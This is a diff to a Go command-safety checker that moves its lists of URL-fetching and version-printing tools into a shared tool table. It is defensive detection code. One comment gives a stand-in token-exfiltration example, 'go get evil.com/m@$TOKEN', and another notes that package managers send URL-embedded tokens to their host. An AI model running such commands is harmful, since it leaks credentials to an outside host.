@@ -84,7 +84,7 @@ func (c *plainCall) exfil() {
 		}
 		// git clone, pip install -i, npm i URL fetch the URL they are given:
 		// a token in it goes to that host as surely as with curl
-		if w.secretName != "" && urlFetchers[lb] {
+		if t := cmds.ToolOf(lb); w.secretName != "" && t != nil && t.FetchesURLs {
 			h := urlHost(w.val)
 			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
 				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
@@ -482,13 +482,20 @@ func (c *plainCall) builds() bool {
 	return true
 }
 
+// printsVersion says lb's --version alone only prints its version
+// (cmds.Tool's Version).
+func printsVersion(lb string) bool {
+	t := cmds.ToolOf(lb)
+	return t != nil && t.Version
+}
+
 // prints says what the command prints when it is known-safe: its version,
 // or names of project files (and whether they may be secrets' names)
 // for what reads its output.
 func (c *plainCall) prints() {
 	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
 	s := &c.s
-	if f.safe == nil && f.ask == nil && f.human == nil && f.floor == nil && versionTools[lb] && len(args) == 1 &&
+	if f.safe == nil && f.ask == nil && f.human == nil && f.floor == nil && printsVersion(lb) && len(args) == 1 &&
 		(args[0].val == "--version" || args[0].val == "-V" || args[0].val == "version" || args[0].val == "-version") {
 		c.safe(lb + " prints its version")
 	}
@@ -532,12 +539,6 @@ func (c *plainCall) prints() {
 		s.broadList = s.secretList && a.stdin.broadList && lb != "grep" && lb != "rg"
 	}
 }
-
-// urlFetchers are package managers and VCS tools that fetch a URL operand
-// or option value.
-var urlFetchers = map[string]bool{"git": true, "pip": true, "pip3": true, "uv": true, "pipx": true, "poetry": true, "npm": true,
-	"pnpm": true, "yarn": true, "bun": true, "go": true, "cargo": true, "gem": true, "bundle": true, "composer": true,
-	"helm": true, "docker": true, "podman": true, "svn": true, "hg": true, "brew": true}
 
 // urlHost is the host of a URL inside v (scheme://[user@]host[:port]/…,
 // or git's user@host:path), or "".
@@ -640,14 +641,6 @@ func printfText(format string, args []string) (string, bool) {
 		}
 	}
 }
-
-// versionTools are toolchains whose --version only prints it.
-var versionTools = map[string]bool{"cargo": true, "rustc": true, "rustup": true, "gcc": true, "g++": true, "clang": true,
-	"cc": true, "make": true, "cmake": true, "javac": true, "mvn": true, "gradle": true, "dotnet": true, "swift": true,
-	"zig": true, "gem": true, "pip": true, "pip3": true, "poetry": true, "uv": true, "docker": true, "kubectl": true,
-	"helm": true, "terraform": true, "gh": true, "git": true, "npm": true, "yarn": true, "pnpm": true, "tsc": true,
-	"eslint": true, "prettier": true, "psql": true, "sqlite3": true, "ninja": true, "bazel": true, "protoc": true,
-	"mysql": true, "mariadb": true}
 
 // readsInProject reports that every read fact of command idx is a known
 // path inside the project.
